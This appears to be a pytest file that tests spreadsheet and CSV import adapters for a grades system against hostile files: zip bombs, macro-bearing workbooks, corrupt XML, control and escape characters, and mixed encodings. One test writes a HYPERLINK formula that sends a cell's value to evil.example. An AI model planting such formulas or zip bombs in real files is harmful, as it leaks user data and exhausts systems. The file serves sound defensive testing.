"""Hostile and broken input: every case ends in a DataError with a code (or a row issue), never a traceback."""

import zipfile

import openpyxl
import pytest

from adapters.errors import DataError
from adapters.spreadsheet import CsvAdapter, Limits, XlsxAdapter
from adapters.spreadsheet.reading import open_table

from .test_spreadsheet_reading import make_csv, make_xlsx


def read_error(path, options=None, cls=XlsxAdapter):
    with pytest.raises(DataError) as info:
        list(cls.from_spec(str(path), options or {}).read("scores"))
    assert info.value.message and "Traceback" not in info.value.message
    return info.value


def test_missing_file(tmp_path):
    assert read_error(tmp_path / "nope.xlsx").code == "file_not_found"
    assert read_error(tmp_path).code == "file_not_found"  # a folder


def test_binary_junk_is_not_a_spreadsheet(tmp_path):
    path = tmp_path / "grades.csv"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20)
    assert read_error(path, cls=CsvAdapter).code == "not_a_spreadsheet"


@pytest.mark.parametrize("name", ["grades.xls", "grades.xlsm", "grades.xlsb"])
def test_legacy_and_macro_formats_are_refused(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    error = read_error(path)
    assert error.code == "unsupported_format"
    assert ".xlsx" in error.message


def test_an_encrypted_or_old_workbook_under_an_xlsx_name(tmp_path):
    path = tmp_path / "grades.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert read_error(path).code == "unsupported_format"


def test_macros_inside_a_zip_are_refused(tmp_path):
    path = make_xlsx(tmp_path / "grades.xlsx", [["学号", "总成绩"], ["1", 90]])
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macro")
    assert read_error(path).code == "unsupported_format"


def test_an_html_table_named_xls(tmp_path):
    path = tmp_path / "grades.xls"
    path.write_text("<html><body><table><tr><td>学号</td></tr></table></body></html>", encoding="utf-8")
    assert read_error(path).code == "html_table"


def test_a_zip_that_is_not_a_workbook(tmp_path):
    path = tmp_path / "grades.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert read_error(path).code == "not_a_spreadsheet"


def test_a_truncated_workbook(tmp_path):
    good = make_xlsx(tmp_path / "good.xlsx", [["学号", "总成绩"], ["1", 90]] * 50)
    path = tmp_path / "bad.xlsx"
    path.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    assert read_error(path).code == "corrupt_file"


def test_a_workbook_with_broken_xml(tmp_path):
    good = make_xlsx(tmp_path / "good.xlsx", [["学号", "总成绩"], ["1", 90]])
    path = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2] + b"<<<&&&"
            target.writestr(item, data)
    assert read_error(path).code == "corrupt_file"


def test_zip_bombs(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/sharedStrings.xml", b"\0" * (5 * 2**20))
    with pytest.raises(DataError) as info:
        open_table(path, limits=Limits(max_unzipped=2**20))
    assert info.value.code == "zip_bomb"
    with pytest.raises(DataError) as info:
        open_table(path, limits=Limits(max_ratio=50))
    assert info.value.code == "zip_bomb"


def test_too_many_rows(tmp_path):
    rows = [["学号", "总成绩"]] + [[str(i), 80] for i in range(1, 12)]
    assert read_error(make_xlsx(tmp_path / "g.xlsx", rows), {"max_rows": "5"}).code == "too_many_rows"
    blank_tail = make_xlsx(tmp_path / "ok.xlsx", rows[:4] + [[None, None]] * 10)
    assert len(list(XlsxAdapter.from_spec(str(blank_tail), {"max_rows": "5"}).read("scores"))) == 3


def test_huge_cells_become_row_issues(tmp_path):
    rows = [["学号", "姓名", "总成绩"], ["1", "名" * 10_000, 90], ["2" * 5000, "乙", 80], ["3", "丙", 70]]
    for adapter in (XlsxAdapter.from_spec(str(make_xlsx(tmp_path / "g.xlsx", rows)), {}),
                    CsvAdapter.from_spec(str(make_csv(tmp_path / "g.csv", rows)), {})):
        scores = list(adapter.read("scores"))
        assert [(s.person.student_number, s.person.name) for s in scores] == [("1", None), ("3", "丙")]
        assert {(i["row"], i["code"]) for i in adapter.issues} == {(2, "cell_too_long"), (3, "cell_too_long")}


def test_a_broken_csv_field(tmp_path):
    path = tmp_path / "g.csv"
    path.write_text('学号,总成绩\n1,"' + "x" * 200_000 + '"\n', encoding="utf-8")
    error = read_error(path, {"profile": "generic"}, CsvAdapter)
    assert error.code == "bad_csv"
    assert error.where["row"] == 2


def test_empty_files(tmp_path):
    (tmp_path / "e.csv").write_bytes(b"")
    assert read_error(tmp_path / "e.csv", cls=CsvAdapter).code == "no_profile_matched"
    workbook = openpyxl.Workbook()
    workbook.save(tmp_path / "e.xlsx")
    assert read_error(tmp_path / "e.xlsx").code == "no_profile_matched"


def test_formulas_are_never_evaluated(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["学号", "姓名", "总成绩"])
    sheet.append(["1", '=HYPERLINK("http://evil.example/?x="&A2,"张三")', "=40+50"])
    text_cell = sheet.cell(row=3, column=2, value='=HYPERLINK("http://evil.example","李四")')
    text_cell.data_type = "s"  # stored as text, as a CSV import would
    sheet.cell(row=3, column=1, value="2")
    sheet.cell(row=3, column=3, value=88)
    workbook.save(tmp_path / "f.xlsx")
    adapter = XlsxAdapter.from_spec(str(tmp_path / "f.xlsx"), {})
    scores = list(adapter.read("scores"))
    # a formula without a cached value reads as empty: nothing is computed
    assert [(s.person.student_number, s.person.name, s.value) for s in scores] == [
        ("2", '=HYPERLINK("http://evil.example","李四")', 88.0)]
    assert [(i["row"], i["code"]) for i in adapter.issues] == [(2, "missing_score")]


def test_a_workbook_with_a_wrong_dimension_is_read_fully(tmp_path):
    path = make_xlsx(tmp_path / "g.xlsx", [["学号", "总成绩"]] + [[str(i), 60 + i] for i in range(1, 8)])
    patched = tmp_path / "p.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(patched, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<dimension ref="A1:B8"/>', b'<dimension ref="A1:B2"/>')
            target.writestr(item, data)
    scores = list(XlsxAdapter.from_spec(str(patched), {}).read("scores"))
    assert len(scores) == 7


def test_csv_with_too_many_columns(tmp_path):
    rows = [["学号", "总成绩"] + [f"c{i}" for i in range(300)], ["1", 90] + ["x"] * 300]
    adapter = CsvAdapter.from_spec(str(make_csv(tmp_path / "g.csv", rows)), {"profile": "generic"})
    assert len(list(adapter.read("scores"))) == 1
    assert adapter.issues[0]["code"] == "columns_ignored"


def test_decode_reports_the_line_of_a_bad_byte():
    from adapters.spreadsheet.reading import decode_text

    raw = "学号\n1\n".encode() + b"\xff\xfe\xfa\n"
    for encoding in (None, "utf-8"):
        with pytest.raises(DataError) as info:
            decode_text(raw, encoding)
        assert info.value.code == "bad_encoding"
        assert info.value.where["row"] == 3


def test_messages_are_translated(tmp_path):
    from django.utils import translation

    with translation.override("zh-hans"):
        error = read_error(tmp_path / "nope.xlsx")
    assert "不存在" in error.message


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_control_characters_are_removed_per_cell_and_the_row_reported(tmp_path, suffix):
    from tests.sync.hostile_files import csv_with_controls, xlsx_with_controls

    make = csv_with_controls if suffix == "csv" else xlsx_with_controls
    adapter = XlsxAdapter.from_spec(str(make(tmp_path / f"cx.{suffix}")), {})
    people = list(adapter.read("persons"))
    assert [p.name for p in people] == ["张伟", "王芳", "李娜"]
    found = [(i["row"], i["column"], i["code"], i["severity"]) for i in adapter.issues]
    assert found == [(2, "姓名", "control_characters", "warning"), (3, "姓名", "control_characters", "warning")]


def test_clean_and_visible():
    from adapters.text import clean, visible

    assert clean("a\x1b[1;31mb\x1b]0;title\x07c\x9b2Jd\x01e\x7f") == "abcde"
    assert clean("备注\n第二行\t") == "备注\n第二行\t"
    assert clean("a\r\nb", keep_breaks=False) == "a  b"
    assert visible("x\x1b[2Jy\u202ez\n") == "x\\u001b[2Jy\\u202ez\n"


def test_a_utf8_csv_with_one_gbk_line_refuses_that_row_only(tmp_path):
    from tests.sync.hostile_files import mixed_encoding_csv

    adapter = CsvAdapter.from_spec(str(mixed_encoding_csv(tmp_path / "m.csv", gbk_learner=2)), {})
    people = list(adapter.read("persons"))
    assert [p.name for p in people] == ["张伟", "李娜", "刘洋"], "no mojibake: the file is read as UTF-8"
    assert adapter.report["encoding"] == "utf-8"
    assert [(i["row"], i["code"], i["severity"]) for i in adapter.issues] == [(3, "bad_encoding", "error")]
    assert [(h.person.student_number, h.code, h.rows) for h in adapter.held_back()] == [
        ("2025000002", "bad_encoding", [3])]


def test_a_gbk_csv_with_one_utf8_line_refuses_that_row_only(tmp_path):
    from tests.sync.registrar_files import NAMES, number

    lines = ["学号,姓名,总成绩".encode("gbk")]
    for n in range(1, 6):
        lines.append(f"{number(n)},{NAMES[n - 1]},{80 + n}".encode("utf-8" if n == 4 else "gbk"))
    path = tmp_path / "g.csv"
    path.write_bytes(b"\r\n".join(lines) + b"\r\n")
    adapter = CsvAdapter.from_spec(str(path), {})
    assert [p.name for p in adapter.read("persons")] == ["张伟", "王芳", "李娜", "陈静"]
    assert adapter.report["encoding"] == "gb18030"
    assert [(i["row"], i["code"]) for i in adapter.issues] == [(5, "bad_encoding")]
